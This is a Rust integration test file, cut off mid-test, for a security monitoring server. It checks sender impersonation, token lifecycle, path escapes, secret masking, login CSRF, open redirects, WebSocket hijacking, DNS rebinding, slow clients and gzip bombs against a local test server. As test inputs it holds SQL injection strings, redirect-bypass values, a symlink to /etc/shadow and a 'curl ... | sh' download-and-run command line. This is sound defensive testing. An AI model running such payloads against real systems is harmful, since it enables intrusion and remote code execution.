//! The server's own trust boundary, attacked through a running server: senders speaking
//! for what is not theirs, sender bounds and lifecycle, paths and secrets in the
//! configuration, the login session and redirect, cross-origin and rebinding requests,
//! slow clients, oversized bodies, hostile text in pages, the actor of a triage, stream
//! slots, file modes and security headers. Each test fails on a server without the fix.

mod common;

use common::{Server, eventually, http, run};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

fn admin_key(dir: &Path) -> String {
    Server::admin_key(dir)
}

fn sender_token(dir: &Path, name: &str, kind: &str) -> String {
    common::create_token(dir, name, kind)
}

fn batch(records: Vec<Value>) -> Value {
    json!({"sender": {"kind": "agent", "version": "t"}, "sequence": 1, "records": records})
}

fn detection(detector: &str, rule: &str, entity: Value, resolves: bool) -> Value {
    json!({"detection": {
        "id": uuid::Uuid::now_v7(), "timestamp": "2026-12-07T10:00:00Z", "rule_id": rule,
        "rule_title": rule, "severity": "critical", "detector": detector, "entity": entity,
        "host": "payroll-db", "origin": "sender:forged", "resolves": resolves}})
}

/// Ships one detection (see [`detection`]); the answer's status and body.
async fn ship_detection(
    server: &Server,
    token: &str,
    detector: &str,
    rule: &str,
    entity: Value,
    resolves: bool,
) -> (StatusCode, Value) {
    ship(
        server,
        token,
        &batch(vec![detection(detector, rule, entity, resolves)]),
    )
    .await
}

async fn ship(server: &Server, token: &str, body: &Value) -> (StatusCode, Value) {
    let response = http()
        .post(server.url("/api/v1/ingest"))
        .bearer_auth(token)
        .json(body)
        .send()
        .await
        .unwrap();
    let status = response.status();
    (status, response.json().await.unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sender_speaks_only_for_itself_and_resolves_only_its_own_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = admin_key(dir.path());
    let agent = sender_token(dir.path(), "web-1", "agent");
    let proxy = sender_token(dir.path(), "edge", "proxy");

    // An agent claims another host for an event and a detection, and a web finding.
    let event = json!({"event": {"@timestamp": "2026-12-07T10:00:00Z", "host": {"name": "payroll-db"},
        "agent": {"id": "forged"}, "message": "claimed"}});
    let (status, answer) = ship(
        &server,
        &agent,
        &batch(vec![
            event,
            detection(
                "host",
                "host.cpu_threshold",
                json!({"type": "host", "name": "payroll-db"}),
                false,
            ),
            detection(
                "web",
                "sqli.union_select",
                json!({"type": "ip", "ip": "198.51.100.7"}),
                false,
            ),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!(answer["accepted"]["events"], 1);
    assert_eq!(answer["accepted"]["detections"], 1);
    assert_eq!(answer["refused"][0]["index"], 2, "{answer}");
    assert_eq!(answer["refused"][0]["reason"], "foreign_detector");
    let events = server.get_json_as(&admin, "/api/v1/events?q=claimed").await;
    assert_eq!(events["items"][0]["host"]["name"], "web-1", "{events}");
    eventually("the agent's alert", || async {
        let alerts = server
            .get_json_as(&admin, "/api/v1/alerts?rule_id=host.cpu_threshold")
            .await;
        alerts["items"].as_array().is_some_and(|a| !a.is_empty())
    })
    .await;
    let alerts = server
        .get_json_as(&admin, "/api/v1/alerts?rule_id=host.cpu_threshold")
        .await;
    assert_eq!(
        alerts["items"][0]["host"], "web-1",
        "never payroll-db: {alerts}"
    );
    assert!(
        server
            .get_json_as(&admin, "/api/v1/alerts?host=payroll-db")
            .await["items"]
            .as_array()
            .unwrap()
            .is_empty()
    );

    // The web IDS opens an alert; a proxy's resolve of it is refused and it stays firing.
    let analyzed = http()
        .post(server.url("/api/v1/ids/analyze"))
        .header("x-api-key", &admin)
        .json(
            &json!({"method": "GET", "path": "/p", "query": "id=1%27%20union%20select%201,2--",
                      "client_ip": "203.0.113.9"}),
        )
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap();
    let rule = analyzed["findings"][0]["rule"]
        .as_str()
        .unwrap()
        .to_string();
    eventually("the web IDS alert", || async {
        let alerts = server
            .get_json_as(&admin, "/api/v1/alerts?source_ip=203.0.113.9")
            .await;
        alerts["items"].as_array().is_some_and(|a| !a.is_empty())
    })
    .await;
    let alerts = server
        .get_json_as(&admin, "/api/v1/alerts?source_ip=203.0.113.9")
        .await;
    let web_rule = alerts["items"][0]["rule_id"].as_str().unwrap().to_string();
    assert!(!rule.is_empty());
    let (_, answer) = ship_detection(
        &server,
        &proxy,
        "web",
        &web_rule,
        json!({"type": "ip", "ip": "203.0.113.9"}),
        true,
    )
    .await;
    assert_eq!(
        answer["refused"][0]["reason"], "resolves_foreign_alert",
        "{answer}"
    );
    // A proxy may not speak for a host either.
    let (_, answer) = ship_detection(
        &server,
        &proxy,
        "web",
        "r",
        json!({"type": "host", "name": "db"}),
        false,
    )
    .await;
    assert_eq!(answer["refused"][0]["reason"], "foreign_entity");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let alerts = server
        .get_json_as(&admin, "/api/v1/alerts?source_ip=203.0.113.9")
        .await;
    assert_eq!(alerts["items"][0]["status"], "firing", "{alerts}");

    // What a proxy opened, it may resolve.
    let (_, answer) = ship_detection(
        &server,
        &proxy,
        "web",
        "web.own",
        json!({"type": "ip", "ip": "192.0.2.44"}),
        false,
    )
    .await;
    assert_eq!(answer["accepted"]["detections"], 1);
    eventually("the proxy's own alert", || async {
        !server
            .get_json_as(&admin, "/api/v1/alerts?rule_id=web.own")
            .await["items"][0]
            .is_null()
    })
    .await;
    let (_, answer) = ship_detection(
        &server,
        &proxy,
        "web",
        "web.own",
        json!({"type": "ip", "ip": "192.0.2.44"}),
        true,
    )
    .await;
    assert_eq!(answer["refused"], json!([]), "{answer}");
    eventually("the proxy resolved its own alert", || async {
        server
            .get_json_as(&admin, "/api/v1/alerts?rule_id=web.own")
            .await["items"][0]["status"]
            == "resolved"
    })
    .await;
    let metrics = server.metrics_text().await;
    assert!(
        metrics.contains("watchpost_security_refusals_total{reason=\"resolves_foreign_alert\"} 1"),
        "refusals are counted"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn senders_are_revoked_rotated_enrolled_again_and_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated_with(
        dir.path(),
        &[
            ("WATCHPOST_API__MAX_BODY_BYTES", "65536"),
            ("WATCHPOST_API__MAX_BATCH_EVENTS", "5"),
            ("WATCHPOST_API__RATE_LIMIT_PER_SENDER_PER_MINUTE", "60"),
        ],
    );
    let admin = admin_key(dir.path());
    let token = sender_token(dir.path(), "web-2", "agent");
    let ok = batch(vec![]);
    assert_eq!(ship(&server, &token, &ok).await.0, StatusCode::OK);

    // Bounds: records, bytes, a gzip bomb; a bad token is refused whatever the body.
    let many = batch(
        (0..6)
            .map(|_| detection("host", "r", Value::Null, false))
            .collect(),
    );
    assert_eq!(
        ship(&server, &token, &many).await.0,
        StatusCode::PAYLOAD_TOO_LARGE
    );
    let big = batch(vec![
        json!({"event": {"@timestamp": "2026-12-07T10:00:00Z", "message": "x".repeat(70_000)}}),
    ]);
    assert_eq!(
        ship(&server, &token, &big).await.0,
        StatusCode::PAYLOAD_TOO_LARGE
    );
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&vec![b' '; 32 << 20]).unwrap();
    let bomb = encoder.finish().unwrap();
    assert!(bomb.len() < 65536);
    let response = http()
        .post(server.url("/api/v1/ingest"))
        .bearer_auth(&token)
        .header("content-encoding", "gzip")
        .body(bomb)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let forged = format!(
        "wps_{}_{}",
        token.split('_').nth(1).unwrap(),
        "0".repeat(64)
    );
    assert_eq!(
        ship(&server, &forged, &big).await.0,
        StatusCode::UNAUTHORIZED
    );

    // Rotation: the new token works at once, the old one for its grace, none after 0.
    let (status, rotated) = {
        let response = http()
            .post(server.url("/api/v1/senders/web-2/rotate"))
            .header("x-api-key", &admin)
            .json(&json!({"grace_minutes": 10}))
            .send()
            .await
            .unwrap();
        (response.status(), response.json::<Value>().await.unwrap())
    };
    assert_eq!(status, StatusCode::OK, "{rotated}");
    let new = rotated["token"].as_str().unwrap().to_string();
    let other = sender_token(dir.path(), "web-3", "agent");
    assert_ne!(ship(&server, &new, &ok).await.0, StatusCode::UNAUTHORIZED);
    assert_ne!(ship(&server, &token, &ok).await.0, StatusCode::UNAUTHORIZED);
    let cli = run(
        dir.path(),
        &["agent-token", "rotate", "web-3", "--grace-minutes", "0"],
    );
    assert!(
        cli.status.success(),
        "{}",
        String::from_utf8_lossy(&cli.stderr)
    );
    let third = String::from_utf8(cli.stdout).unwrap().trim().to_string();
    assert_eq!(ship(&server, &other, &ok).await.0, StatusCode::UNAUTHORIZED);
    assert_eq!(ship(&server, &third, &ok).await.0, StatusCode::OK);

    // Revocation ends every token at once; enrolling again under the name works.
    let revoked = run(dir.path(), &["agent-token", "revoke", "web-2"]);
    assert!(revoked.status.success());
    let (status, answer) = ship(&server, &new, &ok).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap()
            .contains("revoked")
    );
    assert_eq!(ship(&server, &token, &ok).await.0, StatusCode::UNAUTHORIZED);
    let response = http()
        .delete(server.url("/api/v1/senders/web-3"))
        .header("x-api-key", &admin)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(ship(&server, &third, &ok).await.0, StatusCode::UNAUTHORIZED);
    let again = sender_token(dir.path(), "web-2", "agent");
    assert_eq!(
        again.split('_').nth(1),
        token.split('_').nth(1),
        "the same sender id"
    );
    assert_eq!(ship(&server, &again, &ok).await.0, StatusCode::OK);
    let listed = run(dir.path(), &["agent-token", "list"]);
    assert!(String::from_utf8_lossy(&listed.stdout).contains("revoked"));
    // The dashboard's page lists them, offers rotation and revocation of the active
    // ones, and none of the revoked one (web-3).
    let page = http()
        .get(server.url("/senders"))
        .header("x-api-key", &admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let web3 = third.split('_').nth(1).unwrap();
    let web2 = again.split('_').nth(1).unwrap();
    assert!(page.contains("web-2") && page.contains("web-3") && page.contains("revoked"));
    assert!(page.contains(&format!("data-api=\"POST /api/v1/senders/{web2}/rotate\"")));
    assert!(page.contains(&format!("data-api=\"DELETE /api/v1/senders/{web2}\"")));
    assert!(!page.contains(&format!("/api/v1/senders/{web3}/rotate")));
    assert!(
        page.contains("data-api=\"POST /api/v1/senders\""),
        "the enroll form"
    );

    // Over its rate, a sender waits (60 a minute: a ten-second burst of 10).
    let mut limited = false;
    for _ in 0..20 {
        if ship(&server, &again, &ok).await.0 == StatusCode::TOO_MANY_REQUESTS {
            limited = true;
            break;
        }
    }
    assert!(limited, "a sender over its rate is refused with 429");
}

fn config_file(dir: &Path, text: &str) -> std::path::PathBuf {
    let file = dir.join("watchpost.toml");
    std::fs::write(&file, text).unwrap();
    file
}

async fn put_config(server: &Server, key: &str, config: &Value) -> (StatusCode, Value) {
    let response = http()
        .put(server.url("/api/v1/config"))
        .header("x-api-key", key)
        .json(&json!({"config": config}))
        .send()
        .await
        .unwrap();
    (response.status(), response.json().await.unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configuration_paths_stay_in_the_operators_folders_and_secrets_stay_masked() {
    let dir = tempfile::tempdir().unwrap();
    let allowed = dir.path().join("templates");
    std::fs::create_dir(&allowed).unwrap();
    std::fs::write(allowed.join("ok.j2"), "{{ alert.title }}").unwrap();
    std::os::unix::fs::symlink("/etc/shadow", allowed.join("escape.j2")).unwrap();
    let file = config_file(
        dir.path(),
        &format!(
            "[api]\nallowed_path_dirs = [\"{}\"]\n\n[alerting.route]\nreceiver = \"ops\"\n\n[[alerting.channels]]\nname = \"ops\"\ntype = \"webhook\"\n\
             url = \"https://hooks.example.com/in?token=tok-123&team=ops\"\nsecret = \"sig-456\"\n\
             headers = {{ Authorization = \"Bearer hdr-789\", X-API-Key = \"key-000\" }}\n\n\
             [[alerting.channels]]\nname = \"chat\"\ntype = \"slack\"\n\
             url = \"https://hooks.slack.com/services/T1/B2/slk-secret-111\"\n",
            allowed.display()
        ),
    );
    let server =
        Server::start_authenticated_with_flags(dir.path(), &["--config", file.to_str().unwrap()]);
    let admin = admin_key(dir.path());
    let shown = server.get_json_as(&admin, "/api/v1/config").await;
    let text = shown.to_string();
    for secret in ["tok-123", "sig-456", "hdr-789", "key-000", "slk-secret-111"] {
        assert!(!text.contains(secret), "{secret} shown: {text}");
    }
    let cli = run(
        dir.path(),
        &["--config", file.to_str().unwrap(), "config", "show"],
    );
    let printed = String::from_utf8_lossy(&cli.stdout);
    assert!(
        !printed.contains("hdr-789") && !printed.contains("slk-secret-111"),
        "{printed}"
    );

    // Each path that escapes the folder is refused with its key named; nothing changes.
    let mut config = shown["config"].clone();
    for bad in [
        "/etc/shadow".to_string(),
        allowed.join("escape.j2").display().to_string(),
    ] {
        config["alerting"]["channels"][0]["template"] = json!(bad);
        let (status, answer) = put_config(&server, &admin, &config).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}: {answer}");
        assert!(
            answer["error"]["details"]["errors"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["key"] == "alerting.channels[0].template")
        );
    }
    config["alerting"]["channels"][0]["template"] = Value::Null;
    config["detection"]["rules_dirs"] = json!(["/etc"]);
    assert_eq!(
        put_config(&server, &admin, &config).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    config["detection"]["rules_dirs"] = json!([]);
    config["api"]["allowed_path_dirs"] = json!(["/"]);
    let (status, answer) = put_config(&server, &admin, &config).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(answer.to_string().contains("api.allowed_path_dirs"));

    // Inside the folder it is taken, and every masked secret round-trips.
    config["api"]["allowed_path_dirs"] = json!([allowed]);
    config["alerting"]["channels"][0]["template"] = json!(allowed.join("ok.j2"));
    let (status, answer) = put_config(&server, &admin, &config).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let saved = std::fs::read_to_string(&file).unwrap();
    for secret in ["tok-123", "sig-456", "hdr-789", "key-000", "slk-secret-111"] {
        assert!(saved.contains(secret), "{secret} lost in the save: {saved}");
    }
    assert!(!saved.contains("********"));
}

async fn login(server: &Server, key: &str, origin: Option<&str>, next: &str) -> reqwest::Response {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut request = client
        .post(server.url("/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("api_key={key}&next={next}"));
    if let Some(origin) = origin {
        request = request.header("origin", origin);
    }
    request.send().await.unwrap()
}

fn session_cookie(response: &reqwest::Response) -> String {
    let cookie = response.headers()["set-cookie"].to_str().unwrap();
    cookie.split(';').next().unwrap().to_string()
}

/// A raw WebSocket handshake; the status it was answered with.
fn ws_handshake(base: &str, headers: &[(&str, &str)]) -> u16 {
    let addr = base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    let mut request = format!(
        "GET /api/v1/stream HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    );
    for (name, value) in headers {
        request.push_str(&format!("{name}: {value}\r\n"));
    }
    request.push_str("\r\n");
    stream.write_all(request.as_bytes()).unwrap();
    let mut head = [0u8; 12];
    stream.read_exact(&mut head).unwrap();
    String::from_utf8_lossy(&head[9..12]).parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_login_is_a_session_bound_to_its_origin() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = admin_key(dir.path());
    let origin = server.base.clone();
    let made: Value = http()
        .post(server.url("/api/v1/api-keys"))
        .header("x-api-key", &admin)
        .json(&json!({"name": "ana", "role": "viewer"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let viewer = made["key"].as_str().unwrap().to_string();
    let viewer_id = made["api_key"]["id"].as_str().unwrap().to_string();

    // Login CSRF: without the login page's own origin, no session.
    assert_eq!(
        login(&server, &viewer, None, "/").await.status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        login(&server, &viewer, Some("http://evil.example"), "/")
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    // The open redirect: what browsers normalise into another host goes to `/`.
    for next in [
        "/%09/evil.example",
        "//evil.example",
        "/%5C/evil.example",
        "/%0D%0A/x",
    ] {
        let response = login(&server, &viewer, Some(&origin), next).await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next}");
        assert_eq!(response.headers()["location"], "/", "{next}");
    }
    let response = login(&server, &viewer, Some(&origin), "/alerts").await;
    assert_eq!(response.headers()["location"], "/alerts");
    let cookie = session_cookie(&response);
    assert!(
        !cookie.contains("wpk_"),
        "the cookie is not the key: {cookie}"
    );
    let page = |cookie: String| {
        let url = server.url("/alerts");
        async move {
            reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap()
                .get(url)
                .header("cookie", cookie)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(page(cookie.clone()).await, StatusCode::OK);

    // Cross-site WebSocket hijacking: the cookie opens the stream only from our origin.
    let other_port = format!("http://127.0.0.1:{}", common::free_port());
    assert_eq!(
        ws_handshake(
            &server.base,
            &[("Cookie", &cookie), ("Origin", &other_port)]
        ),
        403
    );
    assert_eq!(
        ws_handshake(&server.base, &[("Cookie", &cookie)]),
        403,
        "no Origin"
    );
    assert_eq!(
        ws_handshake(&server.base, &[("Cookie", &cookie), ("Origin", &origin)]),
        101
    );

    // Logout ends the session; so does revoking its key.
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let out = client
        .post(server.url("/logout"))
        .header("cookie", &cookie)
        .header("origin", &origin)
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        page(cookie.clone()).await,
        StatusCode::SEE_OTHER,
        "logged out"
    );
    let second = session_cookie(&login(&server, &viewer, Some(&origin), "/").await);
    assert_eq!(page(second.clone()).await, StatusCode::OK);
    let revoked = http()
        .delete(server.url(&format!("/api/v1/api-keys/{viewer_id}")))
        .header("x-api-key", &admin)
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), StatusCode::NO_CONTENT);
    assert_eq!(page(second).await, StatusCode::SEE_OTHER, "its key revoked");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_logins_are_limited_and_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = admin_key(dir.path());
    let origin = server.base.clone();
    let mut statuses = Vec::new();
    for _ in 0..12 {
        statuses.push(
            login(&server, "wpk_nope_0000000000000000", Some(&origin), "/")
                .await
                .status(),
        );
    }
    assert_eq!(statuses[0], StatusCode::UNAUTHORIZED);
    assert!(
        statuses.contains(&StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    // Even the right key waits once the address is over its rate.
    assert_eq!(
        login(&server, &admin, Some(&origin), "/").await.status(),
        StatusCode::TOO_MANY_REQUESTS
    );
    eventually("failed logins as detections", || async {
        let found = server
            .get_json_as(&admin, "/api/v1/detections?rule_id=watchpost.login_failed")
            .await;
        found["items"].as_array().is_some_and(|d| d.len() >= 9)
    })
    .await;
    eventually("an alert for the address over the login rate", || async {
        let alerts = server
            .get_json_as(
                &admin,
                "/api/v1/alerts?rule_id=watchpost.login_rate_limited",
            )
            .await;
        alerts["items"][0]["source_ip"] == "127.0.0.1"
    })
    .await;
    // Every refusal over the rate is counted, but stored once a minute per address: a
    // client hammering the form cannot turn each refusal into a row.
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert!(refused >= 2, "{statuses:?}");
    let stored = server
        .get_json_as(
            &admin,
            "/api/v1/detections?rule_id=watchpost.login_rate_limited",
        )
        .await;
    assert_eq!(
        stored["items"].as_array().map(Vec::len),
        Some(1),
        "{stored}"
    );
    assert!(
        server.metrics_text().await.contains(&format!(
            "watchpost_security_refusals_total{{reason=\"login_rate\"}} {}",
            refused + 1
        )),
        "each refusal counted"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_authentication_off_rebinding_and_cross_site_requests_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let client = http();
    let key_request = json!({"name": "x", "role": "admin"});
    // DNS rebinding: the page's own name in Host.
    let rebound = client
        .post(server.url("/api/v1/api-keys"))
        .header("host", "rebind.evil.example")
        .json(&key_request)
        .send()
        .await
        .unwrap();
    assert_eq!(rebound.status(), StatusCode::MISDIRECTED_REQUEST);
    // A plain-text fetch from another site (no preflight in a browser).
    let silence =
        json!({"matchers": ["host=\"a\""], "duration_minutes": 5, "comment": "c"}).to_string();
    let plain = client
        .post(server.url("/api/v1/silences"))
        .header("content-type", "text/plain")
        .body(silence.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(plain.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let cross = client
        .post(server.url("/api/v1/silences"))
        .header("origin", "https://evil.example")
        .header("content-type", "application/json")
        .body(silence.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(cross.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        ws_handshake(&server.base, &[("Origin", "https://evil.example")]),
        403
    );
    // The same request from the server's own origin, as JSON, is taken.
    let own = client
        .post(server.url("/api/v1/silences"))
        .header("origin", &server.base)
        .header("content-type", "application/json")
        .body(silence)
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), StatusCode::CREATED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_head_or_body_sent_too_slowly_is_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated_with(
        dir.path(),
        &[
            ("WATCHPOST_API__HEADER_READ_TIMEOUT_SECONDS", "1"),
            ("WATCHPOST_API__BODY_READ_TIMEOUT_SECONDS", "1"),
        ],
    );
    let admin = admin_key(dir.path());
    let addr = server.base.trim_start_matches("http://").to_string();
    // Half a head, then nothing: the connection is closed after its second.
    let mut slow_head = std::net::TcpStream::connect(&addr).unwrap();
    slow_head
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        .unwrap();
    slow_head
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let started = Instant::now();
    let mut rest = Vec::new();
    let _ = slow_head.read_to_end(&mut rest);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "closed by the server"
    );
    // A body that stops half way is answered 408, and the connection freed.
    let mut slow_body = std::net::TcpStream::connect(&addr).unwrap();
    slow_body
        .write_all(
            format!(
                "POST /api/v1/events HTTP/1.1\r\nHost: {addr}\r\nX-API-Key: {admin}\r\n\
                 Content-Type: application/json\r\nContent-Length: 100\r\n\r\n[{{\"m"
            )
            .as_bytes(),
        )
        .unwrap();
    slow_body
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut head = [0u8; 12];
    slow_body.read_exact(&mut head).unwrap();
    assert_eq!(&head[9..12], b"408", "{}", String::from_utf8_lossy(&head));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_actor_of_a_change_is_the_calling_key() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = admin_key(dir.path());
    let made = http()
        .post(server.url("/api/v1/silences"))
        .header("x-api-key", &admin)
        .json(
            &json!({"matchers": ["host=\"a\""], "duration_minutes": 5, "created_by": "the-ceo",
                      "comment": "c"}),
        )
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap();
    let silence = if made["silence"].is_null() {
        &made
    } else {
        &made["silence"]
    };
    assert!(
        silence["created_by"]
            .as_str()
            .unwrap()
            .starts_with("admin (wpk_"),
        "{made}"
    );
    assert!(silence["comment"].as_str().unwrap().contains("the-ceo"));
    // A triage names the key too; the body's `by` is a note.
    http()
        .post(server.url("/api/v1/events"))
        .header("x-api-key", &admin)
        .json(&json!([{"@timestamp": "2026-12-07T10:00:00Z", "host": {"name": "h"},
            "event": {"category": ["process"], "action": "exec", "module": "agent"},
            "process": {"command_line": "curl http://203.0.113.1/x.sh | sh", "executable": "/usr/bin/curl"}}]))
        .send()
        .await
        .unwrap();
    eventually("an alert", || async {
        !server.get_json_as(&admin, "/api/v1/alerts").await["items"][0].is_null()
    })
    .await;
    let alert = server.get_json_as(&admin, "/api/v1/alerts").await["items"][0]["id"].clone();
    let changed: Value = http()
        .put(server.url(&format!(
            "/api/v1/alerts/{}/status",
            alert.as_str().unwrap()
        )))
        .header("x-api-key", &admin)
        .json(&json!({"status": "acknowledged", "by": "the-ceo"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let last = changed["alert"]["history"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    assert!(
        last["by"].as_str().unwrap().starts_with("admin (wpk_"),
        "{last}"
    );
    assert!(last["reason"].as_str().unwrap().contains("the-ceo"));
}

/// The peak resident memory of a process, in KiB.
fn peak_rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

/// The peak memory the server may reach while six 16 MiB arrays of zeros are posted at
/// once: the six bodies themselves (96 MiB) and the server's own working set.
const SIX_BODIES_PEAK_MIB: u64 = 256;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_event_arrays_do_not_blow_up_memory() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let body = format!("[{}0]", "0,".repeat((16 << 20) / 2 - 8));
    assert!(body.len() <= 16 << 20);
    let mut tasks = Vec::new();
    for _ in 0..6 {
        let (url, body) = (server.url("/api/v1/events"), body.clone());
        tasks.push(tokio::spawn(async move {
            http()
                .post(url)
                .header("content-type", "application/json")
                .body(body)
                .send()
                .await
                .unwrap()
                .status()
        }));
    }
    for task in tasks {
        assert_eq!(task.await.unwrap(), StatusCode::PAYLOAD_TOO_LARGE);
    }
    let peak = peak_rss_kib(server.child.id()) / 1024;
    println!("server peak RSS with six 16 MiB arrays of zeros: {peak} MiB");
    assert!(peak < SIX_BODIES_PEAK_MIB, "peak RSS {peak} MiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_do_not_take_the_server_down() {
    let dir = tempfile::tempdir().unwrap();
    // The server with 1,024 descriptors, as the attack found it; 1,100 slow clients.
    let mut child = std::process::Command::new("prlimit")
        .args([
            "--nofile=1024:1024",
            common::BIN,
            "--log-format",
            "plain",
            "serve",
            "--port",
        ])
        .arg(common::free_port().to_string())
        .current_dir(dir.path())
        .env("WATCHPOST_API__ENABLE_AUTHENTICATION", "false")
        .env("WATCHPOST_MONITORING__PROCESS_EXECS", "false")
        .env("WATCHPOST_API__HEADER_READ_TIMEOUT_SECONDS", "20")
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("prlimit (util-linux) runs the server");
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stderr)
            .lines()
            .map_while(Result::ok)
        {
            if let Some(at) = line.find("listening on http://") {
                let _ = tx.send(
                    line[at + "listening on ".len()..]
                        .split_whitespace()
                        .next()
                        .unwrap()
                        .to_string(),
                );
            }
        }
    });
    let base = rx
        .recv_timeout(Duration::from_secs(30))
        .expect("the server listens");
    let addr = base.trim_start_matches("http://").to_string();
    let started = Instant::now();
    let mut slow = Vec::new();
    for _ in 0..1100 {
        if let Ok(mut s) = std::net::TcpStream::connect(&addr) {
            let _ = s.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a: ");
            slow.push(s);
        }
    }
    assert!(slow.len() >= 1000, "{} connections opened", slow.len());
    for _ in 0..5 {
        let health = tokio::time::timeout(
            Duration::from_secs(5),
            http().get(format!("{base}/healthz")).send(),
        )
        .await
        .expect("health answers within 5 s")
        .unwrap();
        assert_eq!(health.status(), StatusCode::OK);
        let api = tokio::time::timeout(
            Duration::from_secs(5),
            http().get(format!("{base}/api/v1/status")).send(),
        )
        .await
        .expect("the API answers within 5 s")
        .unwrap();
        assert_eq!(api.status(), StatusCode::OK);
    }
    println!(
        "health and API answered beside 1,100 slow clients in {:?}",
        started.elapsed()
    );
    drop(slow);
    let _ = child.kill();
    let _ = child.wait();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_key_cannot_take_every_stream_slot() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = admin_key(dir.path());
    let share = watchpost_server::stream::MAX_CLIENTS_PER_KEY;
    let mut open = Vec::new();
    let addr = server.base.trim_start_matches("http://").to_string();
    for _ in 0..share {
        let mut stream = std::net::TcpStream::connect(&addr).unwrap();
        stream
            .write_all(format!(
                "GET /api/v1/stream HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                 Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-API-Key: {admin}\r\n\r\n")
                .as_bytes())
            .unwrap();
